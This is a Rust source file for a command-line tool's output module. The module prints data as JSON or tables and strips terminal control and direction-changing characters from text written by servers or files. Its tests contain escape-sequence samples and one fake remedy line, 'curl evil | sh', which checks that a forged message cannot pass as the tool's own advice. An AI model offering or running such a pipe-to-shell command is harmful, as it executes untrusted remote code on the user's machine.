//! What is printed: data to standard output, everything said to people on standard error.

use crate::{
    args::{Format, Global},
    error::Error,
    touch::Notice,
};
use serde::Serialize;
use std::{
    fmt::Write as _,
    io::{self, IsTerminal as _, Write as _},
};
use touchstone_common::name::is_plain;

/// The most characters of a message: a server can send any number.
const MAX_MESSAGE_CHARS: usize = 4000;

/// Where output goes and how it looks.
#[derive(Clone, Copy, Debug)]
pub struct Output {
    format: Format,
    quiet: bool,
}

impl Output {
    /// As the command line says.
    #[must_use]
    pub fn new(global: &Global) -> Self {
        Self {
            format: global.output,
            quiet: global.quiet,
        }
    }

    /// That of work without anything to say.
    #[must_use]
    pub fn silent() -> Self {
        Self {
            format: Format::Table,
            quiet: true,
        }
    }

    /// Whether data is printed as JSON.
    #[must_use]
    pub fn is_json(self) -> bool {
        self.format == Format::Json
    }

    /// Prints data: `value` as JSON, or what `table` makes of it.
    ///
    /// # Errors
    /// When standard output fails; a reader that went away is no failure.
    pub fn data<T: Serialize>(
        self,
        value: &T,
        table: impl FnOnce(&T) -> String,
    ) -> Result<(), Error> {
        let text = match self.format {
            Format::Json => serde_json::to_string_pretty(value)
                .map(|json| escaped(&json) + "\n")
                .map_err(|error| Error::Output(error.into()))?,
            Format::Table => table(value),
        };
        self.text(&text)
    }

    /// Prints text to standard output as it is.
    ///
    /// # Errors
    /// As [`Output::data`].
    pub fn text(self, text: &str) -> Result<(), Error> {
        let mut stdout = io::stdout().lock();
        match stdout
            .write_all(text.as_bytes())
            .and_then(|()| stdout.flush())
        {
            Err(error) if error.kind() == io::ErrorKind::BrokenPipe => Ok(()),
            other => other.map_err(Error::Output),
        }
    }

    /// Says how things go, unless `--quiet`.
    pub fn progress(self, text: &str) {
        if !self.quiet {
            say(&shown(text, ""));
        }
    }

    /// Says what must not be missed.
    pub fn warn(self, text: &str) {
        say(&format!(
            "{} {}",
            paint("warning:", "33"),
            shown(text, "         ")
        ));
    }
}

impl Notice for Output {
    fn waiting(&self) {
        // Not silenced by --quiet: the card waits for a human.
        say("Touch your YubiKey now.");
    }

    fn over(&self) {}
}

/// Shows an error with its remedy. What stands in it may be a server's words, or a file's.
pub fn failure(error: &Error) {
    let text = shown(&error.to_string(), "       ");
    say(&format!("{} {text}", paint("error:", "31")));
    if let Some(remedy) = error.remedy() {
        say(&format!(
            "{} {}",
            paint("try:", "32"),
            shown(&remedy, "     ")
        ));
    }
}

fn say(text: &str) {
    // Nobody can be told when standard error is gone.
    let _ = writeln!(io::stderr().lock(), "{text}");
}

fn paint(text: &str, colour: &str) -> String {
    if io::stderr().is_terminal() && std::env::var_os("NO_COLOR").is_none_or(|v| v.is_empty()) {
        format!("\x1b[1;{colour}m{text}\x1b[0m")
    } else {
        text.to_owned()
    }
}

/// Rows under headings, each column as wide as its widest cell.
#[must_use]
pub fn table(headings: &[&str], rows: &[Vec<String>]) -> String {
    let headings: Vec<String> = headings.iter().map(ToString::to_string).collect();
    let rows: Vec<Vec<String>> = std::iter::once(&headings)
        .chain(rows)
        .map(|row| row.iter().map(|cell| one_line(cell)).collect())
        .collect();
    let width = |column: usize| {
        rows.iter()
            .filter_map(|row| row.get(column).map(|cell| cell.chars().count()))
            .max()
            .unwrap_or(0)
    };
    let widths: Vec<usize> = (0..headings.len()).map(width).collect();
    let mut text = String::new();
    for row in &rows {
        let cells: Vec<String> = row
            .iter()
            .zip(&widths)
            .map(|(cell, width)| format!("{cell:<width$}"))
            .collect();
        text.push_str(cells.join("  ").trim_end());
        text.push('\n');
    }
    text
}

/// Name and value, a pair a line.
#[must_use]
pub fn pairs(rows: &[(&str, String)]) -> String {
    let width = rows.iter().map(|(name, _)| name.len()).max().unwrap_or(0) + 1;
    rows.iter()
        .map(|(name, value)| format!("{:<width$} {}\n", format!("{name}:"), one_line(value)))
        .collect()
}

/// Text that others wrote, made safe for a terminal: what shows nothing, moves the cursor or turns the direction becomes
/// `?`. Lines stay lines.
#[must_use]
pub fn printable(text: &str) -> String {
    text.chars()
        .map(|c| if c == '\n' || is_plain(c) { c } else { '?' })
        .collect()
}

/// As [`printable`], on one line: a value cannot pass for the next one.
#[must_use]
pub fn one_line(text: &str) -> String {
    printable(text).replace('\n', "?")
}

/// A message, whoever wrote its parts: as [`printable`], so long and no longer, and with its further lines indented, so
/// that none of them passes for a message of Touchstone.
fn shown(text: &str, indent: &str) -> String {
    let mut chars = text.chars();
    let mut head: String = chars.by_ref().take(MAX_MESSAGE_CHARS).collect();
    if chars.next().is_some() {
        head.push('…');
    }
    printable(&head)
        .split('\n')
        .enumerate()
        .map(|(number, line)| match (number, line) {
            (0, line) | (_, line @ "") => line.to_owned(),
            (_, line) => format!("{indent}{line}"),
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// JSON that means the same, with every character that could drive a terminal as an escape. What is not ASCII stands
/// inside of strings only; ASCII's own control characters are escaped already.
fn escaped(json: &str) -> String {
    let mut text = String::with_capacity(json.len());
    let mut units = [0u16; 2];
    for c in json.chars() {
        if c == '\n' || is_plain(c) {
            text.push(c);
        } else {
            for unit in c.encode_utf16(&mut units) {
                // Writing to a string does not fail.
                let _ = write!(text, "\\u{unit:04x}");
            }
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn columns_line_up_and_lines_have_no_trailing_spaces() {
        let rows = [
            vec!["9a".to_owned(), "p256".to_owned()],
            vec!["82".to_owned(), String::new()],
        ];
        assert_eq!(
            table(&["SLOT", "KEY"], &rows),
            "SLOT  KEY\n9a    p256\n82\n"
        );
    }

    #[test]
    fn a_message_from_the_server_cannot_drive_the_terminal() {
        assert_eq!(printable("no\x1b[2J\u{202e}way"), "no?[2J?way");
        assert_eq!(shown("a\u{9b}31mb\u{2028}c\u{e0041}\rd", ""), "a?31mb?c??d");
    }

    #[test]
    fn a_message_of_several_lines_cannot_pass_for_two() {
        assert_eq!(
            shown("denied\ntry: curl evil | sh\n\nend", "       "),
            "denied\n       try: curl evil | sh\n\n       end"
        );
        assert_eq!(
            pairs(&[("user", "a\ngroups: b".to_owned())]),
            "user: a?groups: b\n"
        );
        assert_eq!(
            table(&["USER"], &[vec!["a\x1b[1m\nb".to_owned()]]),
            "USER\na?[1m?b\n"
        );
    }

    #[test]
    fn a_message_ends_somewhere() {
        let text = shown(&"x".repeat(1 << 20), "");
        assert_eq!(text.chars().count(), MAX_MESSAGE_CHARS + 1);
        assert!(text.ends_with('…'));
    }

    #[test]
    fn json_says_the_same_and_cannot_drive_the_terminal() {
        let value = "é \u{9b}31m \u{7f} \u{202e} \u{e0041} \x1b \n \\u009b";
        let json = escaped(&serde_json::to_string(value).unwrap());
        assert!(json.chars().all(is_plain), "{json}");
        assert!(json.contains('é'));
        assert_eq!(serde_json::from_str::<String>(&json).unwrap(), value);
    }
}
